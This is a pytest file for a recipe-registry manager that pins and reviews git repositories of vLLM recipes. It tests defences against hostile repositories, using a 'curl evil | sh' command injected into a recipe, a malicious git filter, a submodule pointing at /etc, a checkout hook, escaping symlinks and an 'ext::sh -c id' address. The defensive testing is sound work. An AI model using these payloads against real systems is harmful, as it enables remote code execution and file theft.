"""Registries of recipes over real git: pinned, compared, moved only when told, and run only when approved."""

from __future__ import annotations

import os
import tracemalloc
from collections.abc import Iterator
from pathlib import Path

import pytest

from spark_tui.base.errors import UsageError
from spark_tui.catalog.presets.adapter import registries as service
from spark_tui.catalog.presets.adapter.imports import FolderRecipeStore
from spark_tui.catalog.presets.adapter.registries import GitRegistries
from spark_tui.catalog.presets.adapter.store import PresetFiles, parse
from spark_tui.catalog.presets.model.dialects.importing import with_source
from spark_tui.catalog.presets.model.preset import MappingValue, Origin, Preset, PresetCatalogue, RecipeSource, plain
from spark_tui.catalog.presets.model.recipe import preset_from
from spark_tui.catalog.presets.model.registry import (
    ChangeKind,
    GitUnreachable,
    NotReviewed,
    RegistryTooLarge,
    registry_address,
    registry_name,
)
from spark_tui.catalog.presets.use.imports import ImportOutcome, import_copy
from spark_tui.catalog.presets.use.registries import RegistryManager
from tests.cases import all_cases
from tests.catalog.presets.test_vllm_recipes import MADE
from tests.dialect_fixtures import SPARKRUN
from tests.fakes_host import FakeClock
from tests.git_server import GitServer, Upstream, git

RECIPE = """\
recipe_version: "2"
model: org/model
runtime: vllm
container: vllm/vllm-openai:1.0
defaults: {port: 8000, max_model_len: 4096}
command: |
  vllm serve {model} --port {port} --max-model-len {max_model_len}
"""
OTHER = RECIPE.replace("org/model", "org/other")
MANIFEST = "registries:\n- {name: mine, recipes: good}\n"


@pytest.fixture
def server(tmp_path: Path) -> Iterator[GitServer]:
    server = GitServer(tmp_path / "srv")
    yield server
    server.close()


@pytest.fixture
def upstream(server: GitServer) -> Upstream:
    upstream = Upstream(server.root / "eugr")
    upstream.commit({"recipes/small.yaml": RECIPE, "recipes/other.yaml": OTHER, "LICENSE": "MIT License"})
    return upstream


@pytest.fixture
def registries(tmp_path: Path) -> RegistryManager:
    store = GitRegistries(tmp_path / "registries", os.environ)
    return RegistryManager(store, FolderRecipeStore(None), FakeClock(), lambda: presets_of(tmp_path))


def presets_of(tmp_path: Path) -> PresetCatalogue:
    (tmp_path / "builtin").mkdir(exist_ok=True)
    return PresetFiles(tmp_path / "builtin", tmp_path / "own", tmp_path / "registries/presets").load()


def catalogue(tmp_path: Path) -> dict[str, Origin]:
    return {preset.name: preset.origin for preset in presets_of(tmp_path).presets}


async def test_a_broken_file_that_stays_as_it_is_did_not_change_and_a_skipped_one_is_named(
    registries: RegistryManager, server: GitServer, upstream: Upstream
) -> None:
    broken = {"recipes/broken.yaml": "recipe_version: '2'\nmodel: [\n", "recipes/large.yaml": "# " + "x" * 2_000_000}
    upstream.commit(broken)
    added = await registries.add("eugr", server.url("eugr"))
    (problem,) = (each.problem for each in registries.get("eugr").recipes if each.problem)
    assert problem.startswith("recipes/broken.yaml")
    (upstream.folder / "recipes/linked.yaml").symlink_to("small.yaml")
    upstream.commit({"recipes/small.yaml": RECIPE.replace("4096", "8192")})
    looked = await registries.look("eugr")
    assert [each.name for each in looked.changes] == ["eugr.small"]
    for update, dropped in ((added, {"large"}), (looked, {"large", "linked"})):
        paths = {each.partition(":")[0] for each in update.skipped}
        assert paths == {f"recipes/{name}.yaml" for name in dropped}


async def test_a_move_names_the_recipes_that_have_to_be_approved_again(
    registries: RegistryManager, server: GitServer, upstream: Upstream, tmp_path: Path
) -> None:
    await registries.add("eugr", server.url("eugr"))
    for name in ("eugr.small", "eugr.other"):
        registries.approve(presets_of(tmp_path).get(name))  # type: ignore[arg-type]
    commit = upstream.commit({"recipes/small.yaml": RECIPE.replace("4096", "8192"), "recipes/other.yaml": None})
    assert (await registries.move("eugr", commit)).unapproved == ("eugr.small",)


async def test_recipes_of_a_registry_are_presets_of_their_own_origin(
    registries: RegistryManager, server: GitServer, upstream: Upstream, tmp_path: Path
) -> None:
    added = await registries.add("eugr", server.url("eugr"))
    assert {(each.name, each.kind) for each in added.changes} == {
        ("eugr.small", ChangeKind.ADDED),
        ("eugr.other", ChangeKind.ADDED),
    }
    pinned = registries.get("eugr")
    assert pinned.commit == added.commit
    assert all(len(each.digest) == 64 for each in pinned.recipes)
    assert catalogue(tmp_path) == {"eugr.small": Origin.REGISTRY, "eugr.other": Origin.REGISTRY}
    registries.remove("eugr")
    assert (registries.all(), catalogue(tmp_path)) == ((), {})


async def test_an_update_shows_what_changed_and_moves_the_pin_only_when_told(
    registries: RegistryManager, server: GitServer, upstream: Upstream, tmp_path: Path
) -> None:
    first = (await registries.add("eugr", server.url("eugr"))).commit
    text = RECIPE.replace("openai:1.0", "openai:2.0").replace("--port", "--trust-remote-code --port")
    second = upstream.commit({"recipes/small.yaml": text, "recipes/other.yaml": None, "recipes/new.yaml": RECIPE})
    looked = await registries.look("eugr")
    assert registries.get("eugr").commit == first
    assert catalogue(tmp_path).keys() == {"eugr.small", "eugr.other"}
    changes = {each.name: each for each in looked.changes}
    assert {name: each.kind for name, each in changes.items()} == {
        "eugr.small": ChangeKind.CHANGED,
        "eugr.other": ChangeKind.REMOVED,
        "eugr.new": ChangeKind.ADDED,
    }
    assert [part.part for part in changes["eugr.small"].parts] == ["command", "image"], "what runs comes first"
    assert "--trust-remote-code" in changes["eugr.small"].parts[0].after
    with pytest.raises(UsageError):
        await registries.move("eugr", first)
    assert (await registries.move("eugr", second[:12])).commit == second
    assert catalogue(tmp_path).keys() == {"eugr.small", "eugr.new"}
    assert (await registries.look("eugr")).changes == ()


async def test_a_commit_that_was_looked_at_is_pinned_without_the_network(
    registries: RegistryManager, server: GitServer, upstream: Upstream, tmp_path: Path
) -> None:
    await registries.add("eugr", server.url("eugr"))
    second = upstream.commit({"recipes/small.yaml": RECIPE.replace("4096", "8192")})
    await registries.look("eugr")
    server.close()
    assert (await registries.move("eugr", second[:12])).commit == second
    assert registries.get("eugr").commit == second


COMMENTED = """\
# Small and fast.
recipe_version: "2"
model: org/model
container: vllm/vllm-openai:1.0
metadata:  # who keeps it
  maintainer: someone   # asks for reports
command: vllm serve {model}  # as it is
"""


async def test_a_copy_remembers_its_recipe_and_is_outdated_when_that_changes(
    registries: RegistryManager, server: GitServer, upstream: Upstream, tmp_path: Path
) -> None:
    upstream.commit({"recipes/small.yaml": COMMENTED})
    first = (await registries.add("eugr", server.url("eugr"))).commit
    own = FolderRecipeStore(tmp_path / "own")

    def one(name: str) -> Preset:
        found = presets_of(tmp_path).get(name)
        assert found is not None
        return found

    def drifts() -> dict[str, str]:
        return {name: each.id for name, each in registries.drifts(presets_of(tmp_path).presets).items()}

    report = import_copy(own, registries.copy(one("eugr.small"), "mine"))
    assert [each.outcome for each in report.recipes] == [ImportOutcome.IMPORTED]
    text = (tmp_path / "own/mine.yaml").read_text()
    assert all(line in text for line in COMMENTED.splitlines()), "comments and all"
    copied = one("mine").facts.copy_of
    assert copied is not None
    assert (copied.registry, copied.path, copied.commit) == ("eugr", "recipes/small.yaml", first)
    assert len(copied.digest) == 64
    assert drifts() == {}
    again = import_copy(own, registries.copy(one("eugr.small"), "mine"))
    assert [each.outcome for each in again.recipes] == [ImportOutcome.UNCHANGED]

    second = upstream.commit({"recipes/small.yaml": COMMENTED.replace(":1.0", ":2.0")})
    looked = await registries.look("eugr")
    assert [(each.id, each.subject) for each in looked.drifted] == [("copy_outdated", "mine")]
    assert drifts() == {}, "the pin is where it was"
    assert [each.id for each in (await registries.move("eugr", second)).drifted] == ["copy_outdated"]
    assert drifts() == {"mine": "copy_outdated"}
    import_copy(own, registries.copy(one("eugr.small"), "mine"), replace=True)
    assert drifts() == {}

    await registries.move("eugr", upstream.commit({"recipes/small.yaml": None}))
    assert drifts() == {"mine": "copy_removed"}
    registries.remove("eugr")
    assert drifts() == {"mine": "copy_unknown"}
    (tmp_path / "registries/pins.json").write_text("[")
    assert drifts() == {"mine": "copy_unknown"}


async def test_variants_of_a_vllm_recipe_are_presets_of_the_registry(
    registries: RegistryManager, server: GitServer, upstream: Upstream, tmp_path: Path
) -> None:
    upstream.commit({"recipes/small.yaml": None, "recipes/other.yaml": None, "taxonomy.yaml": "a: 1\n",
                     "models/acme/A-30B.yaml": MADE})  # fmt: skip
    await registries.add("vllm", server.url("eugr"))
    assert catalogue(tmp_path).keys() == {"vllm.A-30B", "vllm.A-30B-nvfp4"}
    second = upstream.commit({"models/acme/A-30B.yaml": MADE.replace('"--kv-cache-dtype", "fp8"', '"--seed", "1"')})
    looked = await registries.look("vllm")
    assert looked.commit == second
    assert [each.name for each in looked.changes] == ["vllm.A-30B-nvfp4"], "the variant that changed"


@pytest.mark.parametrize(
    "text",
    [
        RECIPE,
        COMMENTED,
        RECIPE + "# the end\n",
        RECIPE.rstrip("\n"),
        f"---\n{RECIPE}...\n",
        "{model: org/m, container: a/b, command: x}\n",
        "metadata:\n" + RECIPE,
        RECIPE + "metadata: {maintainer: me}\n",
        RECIPE + "description: |+\n  a\n\n",
    ],
)
def test_where_a_copy_is_from_is_added_to_a_recipe_of_any_form(text: str) -> None:
    added_to(text)


@pytest.mark.parametrize("text", [RECIPE, COMMENTED])
def test_a_usual_recipe_keeps_every_line(text: str) -> None:
    assert set(text.splitlines()) <= set(added_to(text).splitlines())


@all_cases("path", SPARKRUN, ids=lambda path: path.stem)
def test_where_a_copy_is_from_is_added_to_any_recipe_and_nothing_else_changes(path: Path) -> None:
    added_to(path.read_text())


def added_to(given: str) -> str:
    """The copy's text, which holds nothing else that is new."""
    source = RecipeSource("eugr", "https://host/x.git", "recipes/x.yaml", "a" * 40, "b" * 64)
    before = parse(given, "r.yaml")
    assert isinstance(before, MappingValue)
    text = with_source(given, before, source)
    after, expected = plain(parse(text, "r.yaml")), plain(before)
    assert isinstance(after, dict)
    assert isinstance(expected, dict)
    metadata = dict(expected.get("metadata") or {})
    copied = after["metadata"]["spark_tui"]["copy_of"]
    assert (copied["recipe"], copied["sha256"]) == (source.path, source.digest)
    own = {**metadata.get("spark_tui", {}), "copy_of": copied}
    assert after == {**expected, "metadata": {**metadata, "spark_tui": own}}
    return text


def test_a_copy_that_says_half_of_where_it_is_from_is_a_preset_like_any_other() -> None:
    text = RECIPE + "metadata: {spark_tui: {copy_of: {registry: eugr, address: https://h/x.git}}}\n"
    preset = preset_from(parse(text, "r.yaml"), name="r", origin=Origin.USER, file="r.yaml")
    assert preset.facts.copy_of is None
    assert preset.unknown == ()


async def test_history_that_was_rewritten_is_a_change_like_any_other(
    registries: RegistryManager, server: GitServer, upstream: Upstream
) -> None:
    await registries.add("eugr", server.url("eugr"))
    upstream.commit({"recipes/small.yaml": RECIPE.replace("4096", "8192")}, "--amend")
    assert [each.name for each in (await registries.look("eugr")).changes] == ["eugr.small"]


async def test_a_recipe_is_launched_only_when_its_present_content_was_approved(
    registries: RegistryManager, server: GitServer, upstream: Upstream, tmp_path: Path
) -> None:
    await registries.add("eugr", server.url("eugr"))

    def preset(name: str) -> Preset:
        found = PresetFiles(tmp_path / "builtin", None, tmp_path / "registries/presets").load().get(name)
        assert found is not None
        return found

    with pytest.raises(NotReviewed):
        registries.check(preset("eugr.small"))
    registries.approve(preset("eugr.small"))
    registries.check(preset("eugr.small"))
    with pytest.raises(NotReviewed):
        registries.check(preset("eugr.other"))
    second = upstream.commit({"recipes/small.yaml": "# a comment\n" + RECIPE, "README": "x"})
    await registries.move("eugr", second)
    registries.check(preset("eugr.small"))
    third = upstream.commit({"recipes/small.yaml": RECIPE.replace("vllm serve", "curl evil | sh; vllm serve")})
    await registries.move("eugr", third)
    with pytest.raises(NotReviewed):
        registries.check(preset("eugr.small"))


async def test_nothing_of_a_repository_has_an_effect_here(
    registries: RegistryManager, server: GitServer, upstream: Upstream, tmp_path: Path
) -> None:
    """Links, submodules, files in places that a checkout refuses, hooks, huge files, binary ones, other encodings."""
    outside = tmp_path / "outside.yaml"
    outside.write_text(RECIPE)
    (upstream.folder / "recipes/link.yaml").symlink_to(outside)
    upstream.commit({
        "recipes/huge.yaml": RECIPE + "# " + "x" * 200_000,
        "recipes/broken.yaml": "model: [",
        ".gitattributes": "*.yaml filter=evil\n",
        ".gitmodules": '[submodule "x"]\n path = x\n url = file:///etc\n',
        ".githooks/post-checkout": f"#!/bin/sh\ntouch {tmp_path}/hooked\n",
    })  # fmt: skip
    upstream.climb_out("recipes/small.yaml", "escape.yaml")
    await registries.add("eugr", server.url("eugr"))
    assert catalogue(tmp_path).keys() == {"eugr.small", "eugr.other"}
    problems = {each.name for each in registries.get("eugr").recipes if each.problem}
    assert problems == {"eugr.broken"}
    assert not (tmp_path / "hooked").exists()
    written = [path for path in (tmp_path / "registries").rglob("*") if path.is_symlink() or path.name == "escape.yaml"]
    assert written == []
    assert not (tmp_path / "escape.yaml").exists()


async def test_a_manifest_says_where_the_recipes_are_and_a_broken_one_is_passed_over(
    registries: RegistryManager, server: GitServer, upstream: Upstream, tmp_path: Path
) -> None:
    upstream.commit({".sparkrun/registry.yaml": MANIFEST, "good/chosen.yaml": RECIPE})
    await registries.add("eugr", server.url("eugr"))
    assert catalogue(tmp_path).keys() == {"eugr.chosen"}
    commit = upstream.commit({".sparkrun/registry.yaml": "registries: [[["})
    await registries.move("eugr", commit)
    assert {"eugr.small", "eugr.other"} <= catalogue(tmp_path).keys()


async def test_a_registry_that_is_gone_slow_or_too_large_changes_nothing(
    registries: RegistryManager, server: GitServer, upstream: Upstream, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    await registries.add("eugr", server.url("eugr"))
    before = (registries.all(), catalogue(tmp_path))
    with pytest.raises(GitUnreachable):
        await registries.add("none", server.url("none"))
    upstream.commit({f"many/{number}.yaml": RECIPE for number in range(40)})
    monkeypatch.setattr(service, "MAX_FILES", 20)
    with pytest.raises(RegistryTooLarge):
        await registries.look("eugr")
    monkeypatch.setattr(service, "FETCH_SECONDS", 0.5)
    server.stalled.set()
    with pytest.raises(GitUnreachable):
        await registries.look("eugr")
    server.close()
    with pytest.raises(GitUnreachable):
        await registries.look("eugr")
    assert (registries.all(), catalogue(tmp_path)) == before


def nested(upstream: Upstream, depth: int, leaf: str) -> None:
    """Commits folders that hold each other ten times over: 10 ** depth files of a few objects."""
    tree = git(upstream.folder, "mktree", given=leaf.encode())
    for _ in range(depth):
        tree = git(upstream.folder, "mktree", given="".join(f"040000 tree {tree}\t{n}\n" for n in range(10)).encode())
    git(upstream.folder, "update-ref", "HEAD", git(upstream.folder, "commit-tree", tree, "-m", "a change"))


async def test_a_small_repository_with_files_without_number_is_refused(
    registries: RegistryManager, server: GitServer, upstream: Upstream, tmp_path: Path
) -> None:
    await registries.add("eugr", server.url("eugr"))
    before = (registries.all(), catalogue(tmp_path))
    blob = git(upstream.folder, "hash-object", "-w", "--stdin", given=b"x")
    nested(upstream, 9, f"100644 blob {blob}\ta.yaml\n")
    tracemalloc.start()
    try:
        with pytest.raises(RegistryTooLarge):
            await registries.look("eugr")
        assert tracemalloc.get_traced_memory()[1] < 4 * service.MAX_LISTED_BYTES
    finally:
        tracemalloc.stop()
    assert (registries.all(), catalogue(tmp_path)) == before


async def test_a_small_repository_with_one_recipe_many_times_over_is_refused(
    registries: RegistryManager, server: GitServer, upstream: Upstream
) -> None:
    text = RECIPE + "#" * 60_000
    blob = git(upstream.folder, "hash-object", "-w", "--stdin", given=text.encode())
    nested(upstream, 3, f"100644 blob {blob}\ta.yaml\n")
    with pytest.raises(RegistryTooLarge):
        await registries.add("eugr", server.url("eugr"))


@pytest.mark.parametrize(
    "address",
    [
        "ssh://host/x",
        "file:///etc",
        "ext::sh -c id",
        "http://example.org/x.git",
        "https://me:pw@host/x",
        "x",
        "-u",
        "https://h/\x1b[",
    ],
)
def test_only_https_addresses_without_passwords_are_taken(address: str) -> None:
    with pytest.raises(UsageError):
        registry_address(address)


@pytest.mark.parametrize("name", ["", "../x", "A", "a.b", "-a", "x" * 40])
def test_names_are_plain(name: str) -> None:
    with pytest.raises(UsageError):
        registry_name(name)
